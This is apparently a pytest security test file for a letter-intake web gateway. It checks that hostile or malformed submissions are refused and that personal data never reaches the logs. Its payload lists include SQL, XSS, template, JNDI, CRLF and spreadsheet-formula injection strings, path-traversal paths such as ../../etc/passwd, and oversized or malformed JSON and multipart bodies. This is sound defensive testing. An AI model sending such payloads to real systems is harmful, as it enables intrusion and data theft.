"""The worst that is sent over the line: each is told in a sentence, kept whole or not at all, and nobody is logged."""

from __future__ import annotations

import gzip
import json
import logging
from secrets import token_hex
from typing import Any
from urllib.parse import quote

import pytest
from sqlalchemy import func, select

from mediator_desk.gateway.config import Client
from mediator_desk.gateway.signing import CLIENT, NONCE, SIGNATURE, TIME, signature
from mediator_desk.models.bridge import Letter, LetterFile
from mediator_desk.services.bridge.taking_in import take_in_letters
from tests.gateway.conftest import SECRETARY, WANG
from tests.gateway.test_back_ends import LETTERS, SECRET, headers, post

PERSON = {
    "申请人姓名": "欧阳海棠",
    "证件号码": "440106199001011235",
    "手机号码": "13912348765",
    "事实经过": "本人欧阳海棠，保单号P9988776655，家住广州市越秀区东风路七号。",
}
TEXTS = (
    *('=HYPERLINK("http://x.example","y")', "+1+1", "-1", "@SUM(A1)", "\t=1"),
    *("<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://x.example/a}", "%s%n"),
    *("'; DROP TABLE letters; --", "\x00", "a\x00b", "\x1b[2J", "\r\nSet-Cookie: a=b", "\u202e13912348765\u202c"),
    *(
        "\u200b\ufeff",
        "\ufffe",
        "１３９１２３４８７６５",
        "١٣٩١٢٣٤٨٧٦٥",
        "NaN",
        "1e999",
        "-0",
        "9" * 400,
        "万" * 20_000,
    ),
    *("../../etc/passwd", "file:///etc/passwd", "\U0001f600" * 500, "e" + "\u0301" * 3000, "𠮷" * 1000),
)


def kept(phone) -> int:
    with phone.bridge.database.reading() as db:
        return db.scalars(select(func.count()).select_from(Letter)).one()


def taken_in(phone) -> None:
    with phone.bridge.database.writing() as db:
        done = take_in_letters(db, store=phone.bridge.database.store, by=SECRETARY, now=phone.now)
    assert done.left == 0


@pytest.fixture
def back_end(phone):
    phone.bridge.clients = {"wx-gd": Client(SECRET)}
    return phone


@pytest.fixture
def logged(caplog):
    """Give everything that is logged, of the program and of what it stands on; no person may be in it."""
    caplog.set_level(logging.DEBUG)
    yield caplog
    said = caplog.text
    assert [value for value in PERSON.values() if value in said] == []
    assert [value for value in ("欧阳海棠", "P9988776655", "东风路", "13912348765", SECRET) if value in said] == []


@pytest.mark.parametrize("column", [column for column in WANG if column != "业务类型"])
def test_odd_texts_are_kept_and_taken_in_or_refused(back_end, logged, column):
    for place, text in enumerate(TEXTS):
        answer = post(back_end, LETTERS, {"id": f"A-{place}", "fields": {**WANG, **PERSON, column: text}})
        assert answer.status_code in (201, 422), (column, text[:20], answer.text)
        assert answer.json().get("receipt") or answer.json()["sentence"]
    assert kept(back_end)
    taken_in(back_end)


BODIES = {
    "nothing": b"",
    "no JSON": b"{",
    "a list": b"[]",
    "null": b"null",
    "a number that is none": b'{"id": NaN, "fields": {}}',
    "a number without end": b'{"id": 1e999, "fields": {}}',
    "nested deep": b'{"id": "A-1", "fields": ' + b'{"a":' * 50_000 + b"1" + b"}" * 50_001,
    "lists without end": b"[" * 200_000,
    "not UTF-8": b'{"id": "A-1", "fields": {"\xff": ""}}',
    "UTF-16": json.dumps({"id": "A-1", "fields": WANG}).encode("utf-16"),
    "a byte order mark": b"\xef\xbb\xbf" + json.dumps({"id": "A-1", "fields": WANG}).encode(),
    "half a surrogate": json.dumps({"id": "A-1", "fields": {**WANG, "诉求": "\ud800"}}).encode(),
    "one id twice": b'{"id": "A-1", "id": "A-2", "fields": {}}',
    "one field twice": json.dumps({"id": "A-1", "fields": {**WANG, "X": "1"}})
    .replace('"X"', '"\\u8bc9\\u6c42"')
    .encode(),
    "a column that there is not": json.dumps({"id": "A-1", "fields": {"__proto__": "x"}}).encode(),
    "a receipt of its own": json.dumps({"id": "A-1", "fields": {**WANG, "提交编号": "WX1"}}).encode(),
    "compressed": gzip.compress(json.dumps({"id": "A-1", "fields": WANG}).encode()),
    "too long a text": json.dumps({"id": "A-1", "fields": {**WANG, "诉求": "x" * 20_001}}).encode(),
    "an id of another kind": json.dumps({"id": 5, "fields": WANG}).encode(),
    "a path as an id": json.dumps({"id": "../../x", "fields": WANG}).encode(),
}


@pytest.mark.parametrize("name", BODIES)
def test_a_body_that_is_no_letter_is_refused_whole(back_end, logged, name):
    body = BODIES[name]
    answer = back_end.client.post(LETTERS, content=body, headers=headers(back_end, LETTERS, body))
    assert (answer.status_code, kept(back_end)) == (422, 0), answer.text
    assert "A-1" not in answer.text
    work = back_end.work()
    page = body.replace(b'"id"', b'"key"').replace(b'"A-1"', b'"draft-0123456789abcdef"')
    page = page.replace(b'"fields"', json.dumps(work)[1:-1].encode() + b', "fields"', 1)
    answer = back_end.client.post("/api/letters", content=page, headers={"Content-Type": "application/json"})
    assert (answer.status_code, kept(back_end)) == (422, 0), answer.text


FORMS: dict[str, tuple[str, bytes]] = {
    "no edge": ("multipart/form-data", b"x"),
    "an edge that never comes": ("multipart/form-data; boundary=e", b"--f\r\n\r\n"),
    "cut off": ("multipart/form-data; boundary=e", b'--e\r\nContent-Disposition: form-data; name="letter"\r\n\r\n{'),
    "no name": ("multipart/form-data; boundary=e", b"--e\r\nContent-Disposition: form-data\r\n\r\nx\r\n--e--\r\n"),
    "an edge of no letters": ("multipart/form-data; boundary=\xff\xfe", b"--\xff\xfe--"),
    "another kind": ("application/x-www-form-urlencoded", b"letter=%7B%7D"),
    "a kind that there is not": ("a/b; c=\x7f", b"x"),
    "a thousand parts": (
        "multipart/form-data; boundary=e",
        b'--e\r\nContent-Disposition: form-data; name="letter"\r\n\r\n{}\r\n' * 1000 + b"--e--\r\n",
    ),
    "a thousand headers": (
        "multipart/form-data; boundary=e",
        b"--e\r\n" + b"A: b\r\n" * 100_000 + b"\r\nx\r\n--e--\r\n",
    ),
}


@pytest.mark.parametrize("name", FORMS)
def test_a_form_that_is_none_is_refused(back_end, logged, name):
    kind, body = FORMS[name]
    for path in ("/api/letters", LETTERS):
        made: dict[str, Any] = headers(back_end, path, body)
        made["Content-Type"] = kind.encode("latin-1")
        answer = back_end.client.post(path, content=body, headers=made)
        assert (answer.status_code, kept(back_end)) in ((422, 0), (400, 0)), answer.text
        assert answer.json()["sentence"]


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "C:\\Windows\\a.pdf", "a\x00b.pdf", "\u202efdp.exe", "x" * 5000, ""]
)
def test_the_name_of_a_file_is_never_a_path(phone, logged, name):
    pdf = b"%PDF-1.4\n%%EOF\n"
    answer = phone.send(files=[("files", (name, pdf, "application/pdf"))])
    assert answer.status_code in (201, 422), answer.text
    with phone.bridge.database.reading() as db:
        names = list(db.scalars(select(LetterFile.name)))
    assert len(names) == kept(phone)
    assert not any(set(kept_name) & set("/\\\x00\u202e") or len(kept_name) > 200 for kept_name in names)


@pytest.mark.parametrize(
    "path",
    [
        *(
            "/static/..%2f..%2fapp.py",
            "/static/%2e%2e/index.html",
            "/static/a%00b",
            "/%ff",
            "/backend",
        ),
        *("/api/letters/1", "/api/progress/440106199001011235", "/.git/config", "/static/" + "a" * 20_000),
    ],
)
def test_a_path_that_there_is_not_tells_nothing(phone, logged, path):
    answer = phone.client.get(path)
    assert answer.status_code in (404, 405)
    assert "440106199001011235" not in answer.text


@pytest.mark.parametrize("after", ["-1", "x", "1e3", "9" * 30, "", "٥"])
def test_a_cursor_that_is_none_is_refused(back_end, after):
    path = f"/backend/v1/changes?after={quote(after)}"
    at, nonce = str(int(back_end.now.timestamp())), token_hex(16)
    signed = {CLIENT: "wx-gd", TIME: at, NONCE: nonce, SIGNATURE: signature(SECRET, "GET", path, at, nonce, b"")}
    assert back_end.client.get(path, headers=signed).status_code == 422


def test_what_somebody_looks_up_is_in_no_log(phone, logged):
    for number in (PERSON["证件号码"], PERSON["手机号码"], "欧阳海棠"):
        assert phone.progress(number, "8765").status_code == 200
    assert phone.client.post("/api/progress", json={"identity_number": 5}).status_code == 422
